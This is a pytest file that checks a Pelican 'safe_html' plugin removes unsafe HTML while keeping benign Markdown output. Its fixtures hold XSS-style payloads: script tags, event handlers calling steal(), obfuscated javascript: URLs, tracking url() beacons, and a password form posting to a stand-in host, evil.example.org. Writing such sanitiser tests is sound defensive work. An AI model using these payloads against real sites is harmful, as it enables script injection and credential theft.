"""safe_html on tiny sites with Pelican's ``simple`` theme and Gardarika's Markdown."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path

from pelican_site import build_pelican_site

MARKDOWN = (
    "from gardarika.content.markdown import markdown_settings\nMARKDOWN = markdown_settings()\n"
)

HEADER = "Title: Test\nDate: 2024-01-01\nSlug: t\n\n"

FORBIDDEN = """
<p id="p1" onclick="steal()" onmouseover="steal()">click</p>

<script>steal()</script>

<a href="javascript:steal()">js</a> <a href="JaVa&#x09;Script:steal()">js2</a>
<a href="data:text/html,hi">data</a> <a href="vbscript:msgbox">vb</a>

<img src="data:image/png;base64,AAAA" alt="inline">

<object data="files/x.swf">OBJECTFALLBACK</object> <embed src="files/y.swf">

<iframe src="files/map.html">IFRAMEFALLBACK</iframe>

<form action="https://evil.example.org/collect" method="post">
<input type="password" name="pw"><button>Send</button>
</form>

<style>body { background: url(https://evil.example.org/track.png) }</style>

<div style="background: url('https://evil.example.org/t.png')">styled</div>

<base href="https://evil.example.org/"> <meta http-equiv="refresh" content="0; url=https://evil.example.org/">
<link rel="stylesheet" href="files/x.css">

<svg><script>steal()</script></svg>

<input type="text" name="q">
"""


def page(out: Path) -> str:
    return (out / "t.html").read_text(encoding="utf-8")


def article(html: str) -> str:
    """The article's body: in the simple theme, between its header and its footer."""
    match = re.search(r"</header>(.*?)<footer>", html, re.S)
    assert match, html
    return match.group(1)


def test_each_forbidden_construct_is_removed(tmp_path: Path) -> None:
    out, log = build_pelican_site(tmp_path, {"t.md": HEADER + FORBIDDEN}, ["safe_html"], MARKDOWN)
    body = article(page(out))
    for gone in (
        "onclick",
        "onmouseover",
        "<script",
        "steal()",
        "javascript:",
        "JaVa",
        "data:",
        "vbscript:",
        "<object",
        "OBJECTFALLBACK",
        "<embed",
        "<iframe",
        "IFRAMEFALLBACK",
        "<form",
        "evil.example.org",
        "password",
        "<button",
        "<style",
        "url(",
        "<base",
        "<meta",
        "<link",
        "<svg",
        'type="text"',
    ):
        assert gone not in body, gone
    assert '<p id="p1">click</p>' in body
    assert "<a>js</a>" in body and '<img alt="inline">' in body
    assert "<div>styled</div>" in body
    assert "t.md: unsafe HTML removed:" in log and "<script>" in log


KEPT = """
# Heading {: #top .lead }

Text with a footnote[^1] and <abbr title="Hypertext">HTML</abbr>, <kbd>Ctrl</kbd>,
<mark>marked</mark>, <del>old</del> <ins>new</ins>, H<sub>2</sub>O, x<sup>2</sup>,
<span lang="en" dir="ltr" title="t" class="c" aria-label="l">span</span>.

| left | right |
|:-----|------:|
| 1    | 2     |

<table><tr><td colspan="2" rowspan="1" align="center">wide</td></tr></table>

<figure><img src="{static}/images/a.png" srcset="{static}/images/a.png 2x" sizes="50vw"
loading="lazy" width="10" height="20" alt="A"><figcaption>Caption</figcaption></figure>

<dl><dt>Term</dt><dd>Definition</dd></dl>

<video controls poster="{static}/images/a.png">
<source src="{static}/files/clip.mp4" type="video/mp4">
<source src="{static}/files/clip.webm" type="video/webm">
<track src="{static}/files/clip.vtt" kind="subtitles" srclang="ru" label="Русский">
</video>
<audio controls><source src="{static}/files/song.mp3" type="audio/mpeg"></audio>

[web](https://example.org/a?b=1#c) [mail](mailto:town@example.org) [phone](tel:+78120000000)
[anchor](#top) [other]({filename}other.md) [relative](files/doc.pdf)

!!! note "Внимание"
    An admonition.

??? tip "More"
    Hidden text.

- [x] done
- [ ] to do

```python
x = "<script>alert(1)</script>"
```

Inline `<b onclick="x">code</b>` stays text.

<div class="highlight"><pre><span class="k">def</span> <span class="nf">f</span></pre></div>

[^1]: The footnote.
"""


def test_kept_constructs_survive(tmp_path: Path) -> None:
    files = {
        "t.md": HEADER + KEPT,
        "other.md": "Title: Other\nDate: 2024-01-02\n\nx\n",
        "images/a.png": b"png",
        "files/clip.mp4": b"v",
        "files/clip.webm": b"v",
        "files/clip.vtt": b"WEBVTT",
        "files/song.mp3": b"a",
        "files/doc.pdf": b"p",
    }
    extra = MARKDOWN + 'STATIC_PATHS = ["images", "files"]\n'
    with_plugin, log = build_pelican_site(tmp_path / "on", files, ["safe_html"], extra)
    body = article(page(with_plugin))
    for kept in (
        '<h1 class="lead" id="top">',
        '<sup id="fnref:1">',
        '<a class="footnote-ref" href="#fn:1">',
        '<div class="footnote">',
        '<li id="fn:1">',
        'class="footnote-backref" href="#fnref:1"',
        '<abbr title="Hypertext">',
        "<kbd>",
        "<mark>",
        "<del>",
        "<ins>",
        "<sub>",
        "<sup>2</sup>",
        'lang="en"',
        'dir="ltr"',
        'aria-label="l"',
        '<th style="text-align: left;">',
        '<td style="text-align: right;">',
        'colspan="2"',
        'rowspan="1"',
        'align="center"',
        "<figure>",
        "<figcaption>",
        'srcset="{static}/images/a.png 2x"',
        'sizes="50vw"',
        'loading="lazy"',
        'width="10"',
        'height="20"',
        "<dl>",
        "<dt>",
        "<dd>",
        'src="./files/clip.mp4"',
        'poster="./images/a.png"',
        '<source src="./files/clip.webm" type="video/webm">',
        'kind="subtitles"',
        'srclang="ru"',
        "<audio controls",
        'href="https://example.org/a?b=1#c"',
        'href="mailto:town@example.org"',
        'href="tel:+78120000000"',
        'href="#top"',
        'href="./other.html"',
        'href="files/doc.pdf"',
        '<div class="admonition note">',
        '<p class="admonition-title">',
        '<details class="tip">',
        "<summary>",
        '<input type="checkbox" disabled="" checked="">',
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        '<code>&lt;b onclick="x"&gt;code&lt;/b&gt;</code>',
        '<span class="k">def</span>',
    ):
        assert kept in body, kept
    assert "unsafe HTML" not in log
    # the same site without the plugin: only the serialisation may differ
    without, _ = build_pelican_site(tmp_path / "off", files, [], extra)
    assert strip(article(page(without))) == strip(body)


class _Structure(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, tuple[tuple[str, str], ...]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag != "tbody":  # the HTML parser of nh3 adds the implied <tbody>
            self.found.append((tag, tuple(sorted((k, v or "") for k, v in attrs))))


def strip(html: str) -> list[tuple[str, tuple[tuple[str, str], ...]]]:
    """Elements with their attributes and values: what must survive unchanged."""
    parser = _Structure()
    parser.feed(html)
    return parser.found


def test_switched_off_keeps_everything(tmp_path: Path) -> None:
    out, log = build_pelican_site(
        tmp_path, {"t.md": HEADER + FORBIDDEN}, ["safe_html"], MARKDOWN + "SAFE_HTML = False\n"
    )
    body = article(page(out))
    assert "<script>steal()</script>" in body and 'onclick="steal()"' in body
    assert "unsafe HTML" not in log


def test_summary_and_title_are_cleaned(tmp_path: Path) -> None:
    out, _ = build_pelican_site(
        tmp_path,
        {
            "t.md": (
                "Title: Hello <script>steal()</script>world\nDate: 2024-01-01\nSlug: t\n"
                'Summary: A <b onclick="steal()">bold</b> summary\n\nText.\n'
            )
        },
        ["safe_html"],
        MARKDOWN,
    )
    home = (out / "index.html").read_text(encoding="utf-8")
    assert "steal()" not in home and "<b>bold</b> summary" in home
    assert "steal()" not in page(out) and "Hello world" in page(out)


def test_names_of_categories_tags_and_authors_are_shown_not_run(tmp_path: Path) -> None:
    # the simple theme prints these names as they are, like most Pelican themes
    for switch in ("", "SAFE_HTML = False\n"):
        out, _ = build_pelican_site(
            tmp_path / (switch[:4] or "on"),
            {
                "t.md": (
                    "Title: Test\nDate: 2024-01-01\nSlug: t\n"
                    "Category: <img src=x onerror=steal()>news\n"
                    "Tags: <script>steal()</script>, <b onmouseover=steal()>tag</b>\n"
                    "Author: <svg onload=steal()>Ann\n\nText.\n"
                )
            },
            ["safe_html"],
            MARKDOWN + switch,
        )
        pages = "".join(p.read_text(encoding="utf-8") for p in out.rglob("*.html"))
        assert "<script>steal()" not in pages and "<img src=x" not in pages
        assert "<b onmouseover" not in pages and "<svg" not in pages
        assert "&lt;script&gt;steal()&lt;/script&gt;" in pages


def test_remote_embeds_become_links_before_cleaning(tmp_path: Path) -> None:
    out, log = build_pelican_site(
        tmp_path,
        {
            "t.md": HEADER
            + (
                '<iframe src="https://video.example.org/embed/1" onload="steal()"></iframe>\n\n'
                '<iframe src="files/map.html">LOCALFRAME</iframe>\n'
            )
        },
        ["offline_output", "safe_html"],
        MARKDOWN,
    )
    body = article(page(out))
    assert '<a href="https://video.example.org/embed/1">' in body  # offline_output's link
    assert 'class="external-embed"' in body
    assert "<iframe" not in body and "LOCALFRAME" not in body and "steal" not in body
    assert "video.example.org" in log  # reported by offline_output...
    assert "t.md: unsafe HTML removed: an <iframe> was" in log  # ...the local one here
